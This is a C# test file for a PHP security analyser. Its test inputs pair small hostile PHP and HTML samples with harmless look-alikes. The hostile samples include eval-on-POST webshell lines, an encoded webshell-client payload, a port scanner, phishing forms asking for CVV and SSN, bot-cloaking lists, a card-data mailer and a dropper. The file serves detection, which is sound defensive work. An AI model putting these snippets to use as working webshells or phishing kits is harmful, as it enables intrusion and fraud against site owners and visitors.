using System.IO.Compression;
using System.Text;
using Colophon.Php.Analysis;
using Colophon.Php.Difference;

namespace Colophon.Php.Tests.Analysis;

/// <summary>Software that has no place in a web root, told calmly and apart from malicious code; and what only looks like it.</summary>
public sealed class UnwantedTests
{
    private const string Administrator = "mysql_query('SHOW DATABASES'); mysql_query('SHOW TABLES'); mysql_query('SHOW FIELDS FROM ' . $t); mysql_query('DROP TABLE ' . $t); mysql_query('ALTER TABLE ' . $t);";
    private const string Robots = "'googlebot', 'slurp', 'altavista', 'teoma', 'scooter', 'ia_archiver', 'msnbot', 'yandex', 'baidu', 'crawl', 'spider', 'wget', 'libwww'";

    [Theory]
    // Databases: known by its own name, by all that it does, by what it copies.
    [InlineData("unwanted_database_tool", "<?php /** Adminer - Compact database management */ $x = 1;", "<?php /** Links to our database manager. */ $x = 1;")]
    [InlineData("unwanted_database_tool", "<form><input type=password name=p></form><?php $c = mysql_connect($h, $u, $p); " + Administrator, "<?php defined('ABSPATH') || exit; ?><form><input type=password name=p></form><?php $c = mysql_connect($h, $u, $p); " + Administrator)]
    [InlineData("unwanted_database_tool", "<?php mysql_connect('h', 'u', 'p'); $c = mysql_query('show create table t'); $r = mysql_query('select * from t'); echo \"INSERT INTO t\";", "<?php class Dump { function go() { mysql_connect('h', 'u', 'p'); $c = mysql_query('show create table t'); $r = mysql_query('select * from t'); return \"INSERT INTO t\"; } }")]
    [InlineData("unwanted_database_tool", "<?php // wget \"http://example.com/get.php?t=users\" -O users.txt\n$c = mysqli_connect('h', 'u', 'p'); echo mysqli_query($c, \"SELECT * FROM $t LIMIT 9\");", "<?php // see http://example.com/manual\n$c = mysqli_connect('h', 'u', 'p'); echo mysqli_query($c, \"SELECT * FROM t LIMIT 9\");")]
    // Files.
    [InlineData("unwanted_file_tool", "<form method=post></form><?php $z = new ZipArchive; $d = opendir('.'); while ($f = readdir($d)) { $z->addFile($f); } $z->open($_POST['n']);", "<?php class Pack { function go() { $z = new ZipArchive; $d = opendir('.'); while ($f = readdir($d)) { $z->addFile($f); } } }")]
    [InlineData("unwanted_file_tool", "<?php function show($d) { $h = opendir($d); while ($f = readdir($h)) { echo $f; } } show($_GET['dir']);", "<?php $h = opendir('themes'); while ($f = readdir($h)) { echo $f; }")]
    // What tells about the server.
    [InlineData("unwanted_probe", "<?php phpinfo(); ?>", "<?php require 'wp-load.php'; if (current_user_can('manage_options')) { phpinfo(); }")]
    [InlineData("unwanted_probe", "<?php $command = 'id'; passthru($command);", "<?php $command = 'git pull'; passthru($command);")]
    [InlineData("unwanted_probe", "<?php if (isset($_COOKIE['k1'])) { die('here'); }", "<?php if (isset($_COOKIE['k1'])) { header('X-Seen: 1'); } echo 'Welcome';")]
    [InlineData("unwanted_probe", "<?php echo 'runs at ' . $_SERVER['PHP_SELF'];", "<?php echo 'Good morning';")]
    [InlineData("unwanted_probe", "<html><table><?php echo phpversion(), zend_version(), getrusage(), implode(get_loaded_extensions()), $_SERVER['SERVER_ADDR'], ini_get('upload_max_filesize'), ini_get('memory_limit'), disk_free_space('/'), $_SERVER['SERVER_SOFTWARE'];", "<html><table><?php echo phpversion(), ini_get('memory_limit');")]
    // Consoles and what steers others.
    [InlineData("unwanted_console", "<input name=command><?php if (!in_array($_SERVER['PHP_AUTH_USER'], $users)) { die('no'); } $list = array('up' => 'uptime'); $c = searched($_GET['command']); function run($c) { return proc_open($c, [], $p); } run($list[$c]);", "<input name=command><?php echo $titles[$_GET['command']];")]
    [InlineData("unwanted_console", "<?php function go($cmd) { ob_start(); @passthru($cmd); return ob_get_contents(); }", "<?php function go($cmd) { ob_start(); @passthru('git log'); return ob_get_contents(); }")]
    [InlineData("unwanted_shell_client", "<?php class Webshell_Model { public $url; }", "<?php class WebshellDetector { public $files; }")]
    [InlineData("unwanted_shell_client", "<?php $c = curl_init($url); curl_setopt($c, CURLOPT_POSTFIELDS, 'x=%40eval%01%28base64_decode%28%24_POST%5Bz0%5D%29%29'); curl_exec($c);", "<?php $c = curl_init($url); curl_setopt($c, CURLOPT_POSTFIELDS, 'x=%40evaluate%28%24_POST'); curl_exec($c);")]
    [InlineData("unwanted_attack_tool", "<?php // usage: php x.php target, uses the vulnerability with a payload of its own\n$t = $argv[1]; $f = fsockopen($t, 80); fwrite($f, \"GET /?q=1\");", "<?php // usage: php x.php target\n$t = $argv[1]; $f = fsockopen($t, 80); fwrite($f, \"GET /\");")]
    [InlineData("unwanted_attack_tool", "<?php $list = array(21, 22, 80); for ($i = 0; $i < count($list); $i++) { $p = $list[$i]; $f = @fsockopen($_GET['h'], $p, $e, $s, 1); if (is_resource($f)) { echo $p; fclose($f); } }", "<?php $f = fsockopen('smtp.example.com', 25); echo fgets($f);")]
    [InlineData("unwanted_attack_tool", "<?php /* *** Laudanum Project *** */ echo gethostbyaddr($_GET['ip']);", "<?php /* tincture of laudanum */ echo gethostbyaddr($ip);")]
    // Mail.
    [InlineData("unwanted_mailer", "<?php $a = explode('|', base64_decode($_POST['x'])); $s = stream_socket_client('tcp://' . $mx); fwrite($s, 'MAIL FROM: <a@example.com>'); fwrite($s, 'RCPT TO: <' . $a[0] . '>');", "<?php $s = stream_socket_client('tcp://mail.example.com:25'); fwrite($s, 'MAIL FROM: <a@example.com>'); fwrite($s, 'RCPT TO: <b@example.com>');")]
    [InlineData("unwanted_mailer", "<form><textarea name=\"maillist\"></textarea></form><?php class M { function send($to) { return mail($to, 's', 'b'); } }", "<form><textarea name=\"message\"></textarea></form><?php class M { function send($to) { return mail($to, 's', 'b'); } }")]
    [InlineData("unwanted_mailer", "<?php class M { function send($to) { mail($to, 's', 'b'); } } $all = array_filter(explode(\"\\n\", $_POST['mails'])); $m = new M; foreach ($all as $to) { $m->send($to); }", "<?php class M { function send($to) { mail($to, 's', 'b'); } } $all = explode(\"\\n\", file_get_contents('staff.txt')); $m = new M; foreach ($all as $to) { $m->send($to); }")]
    // What deceives visitors, keeps what they send, or leads them on.
    [InlineData("unwanted_kit", "<?php include '../../blockerz2.php'; ?><div class=box>Your account</div>", "<?php include '../../blocks.inc.php'; ?><div class=box>Your account</div>")]
    [InlineData("unwanted_kit", "<?php $r = md5(rand()); header(\"location: login.php?cmd=login_submit&id=$r$r&session=$r$r\"); ?>", "<?php $state = md5(rand()); $_SESSION['state'] = $state; header(\"location: login.php?state=$state\"); ?>")]
    [InlineData("unwanted_kit", "<?php include 'ip.php'; header('Location: index2.html'); exit ?>", "<?php include 'config.php'; header('Location: index2.html'); exit ?>")]
    [InlineData("unwanted_kit", "<html><title>&#79;&#110;&#108;&#105;&#110;&#101;&#32;&#66;&#97;&#110;&#107;</title></html>", "<html><title>Caf&#233; &#38; Bar</title></html>")]
    [InlineData("unwanted_kit", "<!-- Added by HTTrack --><form action=\"next.php\" method=post><input type=\"password\"></form>", "<!-- Added by HTTrack --><form action=\"https://example.com/search\"><input name=q></form>")]
    [InlineData("unwanted_kit", "<html><title>PayPal: sign in</title><form action=\"step2.php\" method=post><input type=\"password\"></form></html>", "<html><title>Our shop: sign in</title><form action=\"step2.php\" method=post><input type=\"password\"></form></html>")]
    [InlineData("unwanted_kit", "<html><form action=step3.php method=post>Cvv <input name=cvv> SSN <input name=ssn></form></html>", "<html><form action=step3.php method=post>Cvv <input name=cvv></form></html>")]
    [InlineData("unwanted_kit", "<?php include 'antibots.php'; ?><html><form></form></html>", "<?php include 'antispam-notice.php'; ?><html><form></form></html>")]
    [InlineData("unwanted_kit", "<?php foreach (array(" + Robots + ") as $b) { if (stripos($_SERVER['HTTP_USER_AGENT'], $b) !== false) { header('HTTP/1.0 404 Not Found'); exit; } } $ip = $_SERVER['REMOTE_ADDR'];", "<?php class Robots { public $all = array(" + Robots + "); function is($a) { return in_array($a, $this->all); } }")]
    [InlineData("unwanted_record", "<?php $f = fopen('x.txt', 'a'); foreach ($_POST as $name => $value) { fwrite($f, $name); fwrite($f, $value); }", "<?php $f = fopen('x.txt', 'a'); foreach ($lines as $name => $value) { fwrite($f, $name); fwrite($f, $value); } echo $_POST['ok'];")]
    [InlineData("unwanted_record", "<?php file_put_contents('post.txt', json_encode($_REQUEST) . \"\\n\", FILE_APPEND);", "<?php file_put_contents('post.txt', json_encode($settings) . \"\\n\", FILE_APPEND);")]
    [InlineData("unwanted_doorway", "<?php $all = array('https://a.example/?x', 'https://b.example/'); $to = $all[array_rand($all)]; header(\"Location: $to\");", "<?php $all = array('Welcome', 'Hello'); echo $all[array_rand($all)];")]
    [InlineData("unwanted_relay", "<?php $data = $_POST; $o = stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query($data)))); echo file_get_contents('http://shop.example/x.php', false, $o);", "<?php $o = stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query(array('id' => 1))))); echo json_decode(file_get_contents('http://shop.example/x.php', false, $o))->name;")]
    [InlineData("unwanted_relay", "<?php $s = socket_create_listen(8080); while ($c = socket_accept($s)) { socket_write($c, 'x'); }", "<?php class Server { function run() { $s = socket_create_listen(8080); $c = socket_accept($s); } }")]
    // Texts.
    [InlineData("unwanted_obfuscator", "<?php $s = file_get_contents($argv[1]); file_put_contents($argv[2], 'eval(' . $layer . base64_encode($s) . ')');", "<?php $s = file_get_contents($argv[1]); echo '<img src=\"data:image/png;base64,' . base64_encode($s) . '\">';")]
    [InlineData("unwanted_text_tool", "<form method=post><textarea name=t></textarea></form><?php echo md5($_POST['t']);", "<form method=post><textarea name=t></textarea></form><?php echo htmlspecialchars($_POST['t']);")]
    // What is left.
    [InlineData("unwanted_remnant", "<?php // eval($_POST['c']);\necho 'closed';", "<?php // evaluates what was posted\necho 'closed';")]
    [InlineData("unwanted_remnant", "<?php $f = \u201cx\u201d if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'x'", "<?php class A { function f( { echo 'a typing mistake'; } }")]
    [InlineData("unwanted_remnant", "@ini_set('error_log', NULL); @error_reporting(0); @set_time_limit(0); class x { static function y() { return 1; } }", "Set error_reporting(0); in php.ini (not here) and see the manual.")]
    [InlineData("unwanted_remnant", "<?php //mail(\"x@example.com\", \"Admin\", \"Password : \" . $password);\n$user->login($name, $password);", "<?php //mail(\"x@example.com\", \"Hello\", $text);\n$user->login($name, $password);")]
    [InlineData("unwanted_remnant", ";)]'c'[TSOP_$(lave php?<", "Nothing to see; evaluated elsewhere.")]
    public void What_has_no_place_is_told_and_its_honest_neighbour_left_alone(string kind, string unwanted, string honest)
    {
        var found = Assert.Single(Code.Analyse(("x.php", unwanted)).Findings, f => f.Category != FindingCategory.Vulnerability);
        Assert.Equal((kind, FindingCategory.Unwanted, Confidence.Medium), (found.Kind, found.Category, found.Confidence));
        Assert.Contains("remove it", found.Message, StringComparison.Ordinal);
        Assert.NotEmpty(found.Trace[0].What);
        Assert.DoesNotContain(Code.Analyse(("x.php", honest)).Findings, f => f.Category == FindingCategory.Unwanted || Code.IsAttack(f));
    }

    [Fact]
    public void A_file_of_nothing_but_what_cannot_be_read_is_a_remnant_and_a_list_in_Base64_is_not()
    {
        var packed = new MemoryStream();
        using (var deflate = new DeflateStream(packed, CompressionLevel.Optimal, leaveOpen: true)) { deflate.Write(Encoding.ASCII.GetBytes(string.Concat(Enumerable.Range(0, 900).Select(n => $"{n * 7919 % 1013} ")))); }
        Assert.Contains(Code.Analyse(("x.php", Convert.ToBase64String(packed.ToArray()))).Findings, f => f.Kind == "unwanted_remnant");
        Assert.Empty(Code.Analyse(("x.php", Convert.ToBase64String(Encoding.ASCII.GetBytes(new string('a', 2_000))))).Findings);
    }

    [Fact]
    public void Malicious_code_has_the_word_and_a_file_has_one_answer()
    {
        var findings = Code.Analyse(("x.php", "<?php /* Adminer - Compact database management */ eval($_POST['c']); phpinfo();")).Findings;
        Assert.Contains(findings, f => f.Category == FindingCategory.Malware);
        Assert.DoesNotContain(findings, f => f.Category == FindingCategory.Unwanted);
        Assert.Single(Code.Analyse(("x.php", "<?php /* Adminer - Compact database management; phpMiniAdmin: show databases */ $x = 1;")).Findings);
    }

    [Fact]
    public void It_is_to_be_looked_at_and_no_reason_to_stop()
    {
        var review = Reviewer.Compare(null, ComponentVersion.Read("p", [new SourceFile("info.php", "<?php phpinfo();"u8.ToArray())], [], new AnalysisOptions(Code.Today), TestContext.Current.CancellationToken), new ReviewOptions(Code.Today));
        var concern = Assert.Single(review.Concerns, c => c.Rule == "unwanted-software");
        Assert.Equal(ReviewLevel.Look, concern.Level);
    }

    [Theory]
    [InlineData("malware_backdoor", "<?php $a = array_values($_SERVER); system($a[6]);", "<?php $a = array_values($_SERVER); echo count($a);")]
    [InlineData("malware_dropper", "<?php function all($d) { foreach (glob($d . '/*', GLOB_ONLYDIR) as $x) { if (is_writable($x)) { $l[] = $x; } } return $l; } $l = all('.'); file_put_contents($l[array_rand($l)] . '/' . time() . '.php', $text);", "<?php foreach (glob('*', GLOB_ONLYDIR) as $x) { if (is_writable($x)) { echo $x; } }")]
    [InlineData("malware_webshell", "<?php $n = $info->getCcNumber(); $c = $info->getCcCid(); $m = 'Cvv2 : ' . $c; mail(\"x@example.com\", 'cc', $m);", "<?php $n = $info->getCcNumber(); $c = $info->getCcCid(); $api->authorize($n, $c);")]
    [InlineData("malware_webshell", "<?php if ($d = opendir(\"/tmp\")) { while ($f = readdir($d)) { if ($f > 'sess_') { echo file_get_contents(\"/tmp/$f\"); } } }", "<?php if ($d = opendir(\"/tmp\")) { while ($f = readdir($d)) { echo $f; } }")]
    [InlineData("malware_hidden_code", "<p>x</p><script>var e = document.createElement(String.fromCharCode(115,99,114,105,112,116));</script>", "<p>x</p><script>var e = document.createElement(String.fromCharCode(112));</script>")]
    [InlineData("malware_uploader", "<?php class A { function gets() { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); } } (new A)->gets();", "<?php class A { function gets() { move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . md5($_FILES['f']['name'])); } } (new A)->gets();")]
    public void More_of_what_attackers_do_is_found(string kind, string attack, string honest)
    {
        Assert.Contains(Code.Analyse(("x.php", attack)).Findings, f => f.Kind == kind);
        Assert.DoesNotContain(Code.Analyse(("x.php", honest)).Findings, f => f.Category == FindingCategory.Malware);
    }

    [Fact]
    public void What_runs_only_where_PHP_lacks_an_old_function_is_run_by_nobody()
    {
        const string Body = "$c = 'return ' . base64_decode($x) . ';'; eval($c);";
        Assert.DoesNotContain(Code.Analyse(("x.php", $"<?php class A {{ function f($x) {{ if (!function_exists('call_user_func_array')) {{ {Body} }} }} }}")).Findings, Code.IsAttack);
        Assert.Contains(Code.Analyse(("x.php", $"<?php class A {{ function f($x) {{ if (!function_exists('something_else')) {{ {Body} }} }} }}")).Findings, f => f.Category == FindingCategory.Malware);
    }

    [Fact]
    public void A_file_cut_off_inside_of_the_name_it_includes_is_analysed() => Assert.Empty(Code.Analyse(("x.php", "<?php include \"")).Findings);
}
